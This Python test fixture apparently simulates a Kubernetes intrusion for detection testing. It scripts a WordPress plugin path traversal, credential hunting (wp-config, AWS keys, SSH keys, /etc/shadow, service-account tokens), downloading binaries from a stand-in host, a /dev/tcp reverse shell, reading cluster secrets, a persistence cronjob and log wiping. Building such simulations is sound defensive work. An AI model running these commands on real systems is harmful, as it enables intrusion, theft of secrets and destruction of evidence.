"""The intrusion: fifty minutes of a working day, by way of a plugin of the blog."""

from __future__ import annotations

import asyncio

from ekslab.http import HttpRequest, HttpResponse
from ekslab.node import Process, elf
from ekslab.node.sockets import Socket
from tests.day_of_alerts import images
from tests.day_of_alerts.cluster import API_SERVER, Cluster, Pod
from tests.day_of_alerts.work import Work

HOST = "203.0.113.45"
FOLDER = "/tmp/.font-unix"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
_SCRIPT = f"""\
echo '{{"metadata": {{"name": "node-health"}}}}' > /dev/shm/.c
curl -sk -X POST https://{API_SERVER}/apis/batch/v1/namespaces/kube-system/cronjobs -d @/dev/shm/.c
curl -sk -X POST https://{API_SERVER}/api/v1/namespaces/kube-system/serviceaccounts -d @/dev/shm/.c
"""


class Intruder:
    """What is done in the pod of the blog, and in the one after it."""

    def __init__(self, work: Work) -> None:
        self.cluster: Cluster = work.cluster
        self.blog: Pod = work.blog[1]
        self.second: Pod = work.sync[1]
        self._pace = self.cluster.numbers("intruder")
        self.cluster.network.serve(HOST, _tools, ip=HOST, port=80)
        self.cluster.network.listen(HOST, 443, _tools)

    async def visit(self) -> None:
        await self.cluster.until(13 + 7.4 / 60)
        await self._find_the_hole()
        await self._look_around()
        await self._look_for_credentials()
        await self._bring_tools()
        await self._shell()

    async def _pause(self, seconds: float) -> None:
        await asyncio.sleep(seconds * self._pace.uniform(0.8, 1.25))

    async def _find_the_hole(self) -> None:
        for file, pause in (("passwd", 52), ("apache2/envvars", 140)):

            async def show(p: Process, file: str = file) -> None:
                p.close(p.open(f"/var/www/html/wp-content/plugins/slide-show/img/../../../../../../../etc/{file}"))

            await self.blog.do(show, 2)
            await self._pause(pause)

    async def _php(self, command: str, pause: float, worker: int = 2) -> None:
        """A request that has the web server run a command."""
        await self.blog.run("sh", "-c", command, worker=worker)
        await self._pause(pause)

    async def _look_around(self) -> None:
        await self._php("id", 24)
        await self._php("uname -a; cat /etc/os-release", 41, worker=4)
        await self._php("ls -la /var/www/html /tmp", 33, worker=1)
        await self._php("env | grep -i -e kube -e aws -e mysql", 95, worker=4)

    async def _look_for_credentials(self) -> None:
        await self._php("cat wp-config.php", 60, worker=5)
        await self._php("grep -rsi aws_secret_access_key /var/www /home", 75, worker=3)
        await self._php("find / -xdev -name id_rsa -o -name id_ed25519", 170, worker=2)

    async def _bring_tools(self) -> None:
        fetch = f"mkdir -p {FOLDER} && curl -fsSo {FOLDER}/fc-cache http://{HOST}/f && chmod 700 {FOLDER}/fc-cache"
        await self._php(fetch, 48, worker=1)
        await self._php(f"{FOLDER}/fc-cache -s >/dev/null 2>&1 &", 290, worker=1)

    async def _shell(self) -> None:
        self.cluster.begin(self._php(f"bash -c 'bash -i >& /dev/tcp/{HOST}/443 0>&1'", 0, worker=3))
        await self._pause(20)
        api = f"curl -sk https://{API_SERVER}"
        token = f"-H @{FOLDER}/h"
        await self._type("id; ls -la /var/run/secrets/kubernetes.io/serviceaccount", 70)
        await self._type(f'echo "Authorization: Bearer $(cat {TOKEN})" > {FOLDER}/h', 30)
        await self._type(f"{api}/version", 40)
        await self._type(f"{api}/api/v1/namespaces/shop/pods {token}", 110)
        await self._type(f"{api}/api/v1/namespaces/platform/pods {token}", 150)
        await self._type(f"curl -so {FOLDER}/kc http://{HOST}/k; chmod +x {FOLDER}/kc", 45)
        await self._type(f"{FOLDER}/kc auth can-i --list -n platform", 110)
        await self._type(f"{FOLDER}/kc -n platform exec -it {self.second.name} -- sh", 4)
        await self._second_pod()
        images.ended.set()
        await self._pause(90)
        await self._type(f"shred -u {FOLDER}/kc", 35)
        await self._type(": > /var/log/php_errors.log", 60)
        await self._type("exit", 1)

    async def _type(self, line: str, pause: float) -> None:
        """Sends a line to the shell at the other end of the connection."""
        processes = self.blog.node.kernel.processes_of(self.blog.container)
        shell = next(process for process in processes if process.argv == ["bash", "-i"])
        connection = shell.fds[0]
        assert isinstance(connection, Socket)
        connection._receive(f"{line}\n".encode())
        connection._wake.set()
        await self._pause(pause)

    async def _second_pod(self) -> None:
        api = f"curl -sk https://{API_SERVER}"
        with self.second.terminal("sh") as keys:
            await keys.line("id; ps aux", 15)
            await keys.line("cat /etc/shadow", 45)
            await keys.line("find / -xdev -name id_rsa -o -name kubeconfig", 60)
            await keys.line(f"{api}/api/v1/secrets", 150)
            await keys.line(f"{api}/api/v1/namespaces/kube-system/secrets", 55)
            await keys.line(f"curl -so /dev/shm/.u http://{HOST}/u", 330)
            await keys.line("sh /dev/shm/.u", 40)
            await keys.line(f"{api}/apis/batch/v1/namespaces/kube-system/cronjobs", 210)
            await keys.line("rm /dev/shm/.u; : > /var/log/config-sync.log", 140)
            await keys.line("exit", 20)


async def _tools(request: HttpRequest) -> HttpResponse:
    body = {"f": elf("day-daemon"), "k": elf("day-caller"), "u": _SCRIPT.encode()}[request.url.rpartition("/")[2]]
    return HttpResponse(200, {"Content-Type": "application/octet-stream"}, body)
